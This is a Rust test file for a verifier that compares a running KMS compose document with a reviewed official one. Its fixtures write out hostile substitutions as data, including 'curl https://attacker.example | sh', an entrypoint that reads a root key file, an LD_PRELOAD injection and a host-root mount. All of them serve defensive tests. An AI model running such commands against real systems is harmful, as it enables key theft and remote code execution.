//! The compose document of a KMS, which the user reviewed.

use super::*;

/// The user reviewed this document, and has it; another one runs.
pub(super) fn reviewed(reviewed: &Kms, runs: &Kms) -> Trial {
    let text = &reviewed.cvm.app_compose;
    let document = KmsDocument {
        hash: reviewed.cvm.compose_hash(),
        document: UnprovenDocument::read(text).unwrap(),
    };
    honest(runs).with(|trial| {
        let hashes = vec![document.hash];
        trial.policy.kms.compose_hashes = Some(expected("kms-compose-file", hashes));
        trial.policy.kms.documents = vec![document];
    })
}

#[test]
fn t36_a_document_of_an_official_image_is_known_as_a_whole() {
    let official = running(OFFICIAL, &[]);
    let judged = reviewed(&official, &official).judge();
    judged.passes().proves(ID);
    assert!(
        judged.detail(ID).contains("(images: kms: dstack-kms 0.6.6)"),
        "{judged}"
    );
    // The official digest beside something that replaces what the image runs.
    let image = "    volumes:";
    for lie in [
        "    entrypoint: [sh, -c, 'cat /etc/kms/root.key']\n    volumes:",
        "    command: [sleep, infinity]\n    volumes:",
        "    environment:\n      LD_PRELOAD: /etc/kms/x.so\n    volumes:",
        "    environment:\n      KMS_AUTH: http://attacker.example\n    volumes:",
        "    user: root\n    volumes:\n      - /:/host",
    ] {
        let lying = running(&OFFICIAL.replace(image, lie), &[]);
        fails_alone(&reviewed(&official, &lying), "other-build");
    }
    let second = format!(
        "{OFFICIAL}  second:\n    image: attacker/x@sha256:{}\n",
        "11".repeat(32)
    );
    fails_alone(&reviewed(&official, &running(&second, &[])), "other-build");
    let script = [("pre_launch_script", json!("curl https://attacker.example | sh"))];
    fails_alone(&reviewed(&official, &running(OFFICIAL, &script)), "other-build");
}

#[test]
fn t36_a_document_that_does_not_name_its_code_is_open() {
    let digest = OFFICIAL.split_once('@').unwrap().1.lines().next().unwrap();
    let tag = running(&OFFICIAL.replace(&format!("@{digest}"), ":0.6.6"), &[]);
    let judged = is_open(&reviewed(&tag, &tag), "code-open");
    assert!(judged.detail(ID).contains("image-pins says"), "{judged}");
    let variable = OFFICIAL.replace(&digest[7..], "${DIGEST}");
    let variable = running(&variable, &[("allowed_envs", json!(["DIGEST"]))]);
    is_open(&reviewed(&variable, &variable), "code-open");
    // Another image with a digest is code that the user reviewed, and no release that is known.
    let own = running(&OFFICIAL.replace("fcd5", "fcd6"), &[]);
    let judged = reviewed(&own, &own).judge();
    judged.passes().proves(ID);
    assert!(judged.detail(ID).contains("kms: no known release"), "{judged}");
    // Values from outside, an old release: to look at.
    let outside = OFFICIAL.replace(
        "    volumes:",
        "    environment:\n      RPC: ${ETH_RPC_URL}\n    volumes:",
    );
    let outside = running(&outside, &[("allowed_envs", json!(["ETH_RPC_URL"]))]);
    reviewed(&outside, &outside)
        .judge()
        .says(ID, Status::Warn, "launch-inputs")
        .concludes(Verdict::Pass);
    let script = running(OFFICIAL, &[("pre_launch_script", json!("echo"))]);
    reviewed(&script, &script)
        .judge()
        .says(ID, Status::Warn, "launch-inputs")
        .concludes(Verdict::Pass);
    let old = running(simulator::kms::DOCKER_COMPOSE, &[]);
    reviewed(&old, &old)
        .judge()
        .says(ID, Status::Warn, "old-release")
        .concludes(Verdict::Pass);
    // A tag that reads like a digest of a release.
    let named = OFFICIAL.replace("dstack-kms@sha256", "dstack-kms:0.6.6@sha256");
    let named = running(&named, &[]);
    reviewed(&named, &named).judge().passes().proves(ID);
}
